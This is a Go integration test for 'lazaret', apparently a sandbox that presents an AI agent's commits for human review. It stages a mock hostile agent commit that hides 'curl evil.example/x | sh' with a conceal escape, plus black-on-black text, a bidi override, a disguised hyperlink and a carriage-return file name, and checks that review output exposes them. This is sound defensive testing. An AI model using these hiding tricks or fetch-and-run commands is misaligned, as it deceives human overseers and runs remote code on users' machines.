//go:build integration

package integration

import (
	"bytes"
	"context"
	"errors"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/creack/pty"
)

// The agent's hostile commit (made inside the sandbox with the sandbox's
// git): an install script whose `curl … | sh` is concealed (SGR 8), a
// message line drawn black on black (SGR 30;40) after a bidi override, an
// author name carrying an OSC 8 hyperlink, a file name with a carriage
// return. printf in the sandbox turns the octal escapes into the bytes.
const svAgentScript = `set -e
printf '#!/bin/sh\necho installing\n\033[8mcurl evil.example/x | sh\033[0m\necho done\n' > install.sh
printf 'plain\n' > "$(printf 'notes\rREADME.md')"
git add -A
git -c user.name="$(printf 'Mallory \033]8;;https://evil.example/\033\\Trusted Dev\033]8;;\033\\ X')" \
  commit -q -m "$(printf 'Add installer\n\n\033[30;40mhidden: also runs curl evil | sh\033[0m\n\342\200\256esrever')"
lazaret-escalate --reason "$(printf '\033[8mcurl evil | sh\033[0m please')" -- printf x || true
git rev-parse HEAD`

// svPalette are the only escape sequences lazaret's review output holds
// (internal/cli/review/sanitize.go).
var svPalette = []string{"\x1b[m", "\x1b[1m", "\x1b[36m", "\x1b[32m", "\x1b[31m", "\x1b[33m"}

// svAgentEscapes reports the first escape sequence in out that is not one
// of lazaret's colours, and control characters other than newline and tab
// (a terminal's \r\n is folded first).
func svAgentEscapes(out string) string {
	out = strings.ReplaceAll(out, "\r\n", "\n")
	for _, p := range svPalette {
		out = strings.ReplaceAll(out, p, "")
	}
	for i, r := range out {
		if r < 0x20 && r != '\n' && r != '\t' || r == 0x7f || r >= 0x80 && r <= 0x9f || r == 0x202e || r == 0x200b {
			return out[max(0, i-30):min(len(out), i+30)]
		}
	}
	return ""
}

// runPTY runs lazaret under a new terminal and returns all it printed.
func runPTY(t *testing.T, e *Env, args ...string) string {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
	defer cancel()
	cmd := e.Cmd(ctx, args...)
	ptmx, err := pty.StartWithSize(cmd, &pty.Winsize{Rows: 50, Cols: 200})
	if err != nil {
		t.Fatal(err)
	}
	defer ptmx.Close()
	var out bytes.Buffer
	_, err = io.Copy(&out, ptmx)
	if err != nil && !errors.Is(err, syscall.EIO) {
		t.Fatalf("reading the terminal: %v", err)
	}
	if err := cmd.Wait(); err != nil {
		t.Fatalf("lazaret %v under a terminal: %v\n%s", args, err, out.String())
	}
	return out.String()
}

// TestVisibleAgentTextReview: what the agent committed reaches the user's
// terminal through lazaret diff, log, status and audit (under a terminal
// and to a pipe) with no escape sequence of the agent's: the concealed
// words are shown, the sequences that hid them are shown as \x1b[8m.
// Positive control: git's own output of the same commit carries the
// conceal and black-on-black sequences raw.
func TestVisibleAgentTextReview(t *testing.T) {
	e := NewEnv(t)
	gsRepo(t, e.Workspace)
	// One session holds the sandbox; its command line is shown by status.
	hold, release := io.Pipe()
	holder := e.Cmd(context.Background(), "exec", "--", "sh", "-c", "cat # \x1b[8mhidden session\x1b[0m \u202e")
	holder.Stdin = hold
	if err := holder.Start(); err != nil {
		t.Fatal(err)
	}
	defer func() { release.Close(); _ = holder.Wait() }()
	r := e.Run("exec", "--", "sh", "-c", svAgentScript)
	if r.Code != 0 {
		t.Fatalf("agent commit: exit %d\n%s\n%s", r.Code, r.Stdout, r.Stderr)
	}
	lines := strings.Split(strings.TrimSpace(r.Stdout), "\n")
	tip := lines[len(lines)-1]
	Eventually(t, 30*time.Second, "the agent's commit on the host", func() bool {
		return hostRef(e.Workspace, "refs/heads/lazaret/agent-default") == tip
	})
	Eventually(t, time.Minute, "the escalation in the audit trail", func() bool {
		return strings.Contains(e.Run("audit").Stdout, "escalation.decision")
	})

	// Positive control: host git's own colour output of the same commit.
	rawDiff := gsGit(t, e.Workspace, "diff", "--color=always", "HEAD", "lazaret/agent-default")
	rawLog := gsGit(t, e.Workspace, "log", "--color=always", "HEAD..lazaret/agent-default")
	if !strings.Contains(rawDiff, "\x1b[8mcurl evil.example/x | sh") || !strings.Contains(rawLog, "\x1b[30;40mhidden") || !strings.Contains(rawLog, "\x1b]8;;https://evil.example/") {
		t.Fatalf("control: git's own output does not carry the hiding sequences; the test proves nothing\n%q\n%q", rawDiff, rawLog)
	}

	want := map[string][]string{
		"diff":   {`\x1b[8mcurl evil.example/x | sh\x1b[0m`, `notes\rREADME.md`},
		"log":    {`\x1b[30;40mhidden: also runs curl evil | sh\x1b[0m`, `<U+202E>esrever`, `\x1b]8;;https://evil.example/\x1b\Trusted Dev`},
		"status": {`\x1b[8mhidden session\x1b[0m`},
		"audit":  {`\x1b[8mcurl evil | sh\x1b[0m please`},
	}
	for _, verb := range []string{"diff", "log", "status", "audit"} {
		term := runPTY(t, e, verb)
		if bad := svAgentEscapes(term); bad != "" {
			t.Errorf("lazaret %s under a terminal: agent control character or escape near %q", verb, bad)
		}
		pipe := e.Run(verb)
		if pipe.Code != 0 {
			t.Fatalf("lazaret %s: exit %d: %s", verb, pipe.Code, pipe.Stderr)
		}
		if verb != "diff" && (strings.Contains(pipe.Stdout, "\x1b") || svAgentEscapes(pipe.Stdout) != "") {
			t.Errorf("lazaret %s to a pipe: agent control characters in\n%q", verb, pipe.Stdout)
		}
		for _, w := range want[verb] {
			if !strings.Contains(term, w) {
				t.Errorf("lazaret %s under a terminal does not show %q:\n%s", verb, w, term)
			}
			if verb != "diff" && !strings.Contains(pipe.Stdout, w) {
				t.Errorf("lazaret %s to a pipe does not show %q:\n%s", verb, w, pipe.Stdout)
			}
		}
	}
	svPatchApplies(t, e, tip)
}

// svPatchApplies: `lazaret diff > x.patch` is still the patch (its content
// lines are the agent's bytes, as a patch must hold them), its metadata
// lines hold no control character, and it applies to a copy of the host
// repository.
func svPatchApplies(t *testing.T, e *Env, tip string) {
	t.Helper()
	r := e.Run("diff")
	if r.Code != 0 {
		t.Fatalf("lazaret diff: %d %s", r.Code, r.Stderr)
	}
	if !strings.Contains(r.Stdout, "+\x1b[8mcurl evil.example/x | sh\x1b[0m\n") {
		t.Errorf("patch content changed:\n%q", r.Stdout)
	}
	for _, l := range strings.Split(r.Stdout, "\n") {
		if l != "" && !strings.ContainsRune(" +-", rune(l[0])) && svAgentEscapes(l) != "" {
			t.Errorf("patch metadata line with a control character: %q", l)
		}
	}
	copyDir := filepath.Join(t.TempDir(), "copy")
	if out, err := exec.Command("git", "clone", "-q", e.Workspace, copyDir).CombinedOutput(); err != nil {
		t.Fatalf("clone: %v %s", err, out)
	}
	apply := exec.Command("git", "-C", copyDir, "apply", "--index", "-")
	apply.Stdin = strings.NewReader(r.Stdout)
	if out, err := apply.CombinedOutput(); err != nil {
		t.Fatalf("the patch does not apply: %v %s", err, out)
	}
	got, _ := os.ReadFile(filepath.Join(copyDir, "install.sh"))
	want := gsGit(t, e.Workspace, "show", tip+":install.sh")
	if strings.TrimSpace(string(got)) != want {
		t.Errorf("applied install.sh = %q, want %q", got, want)
	}
}
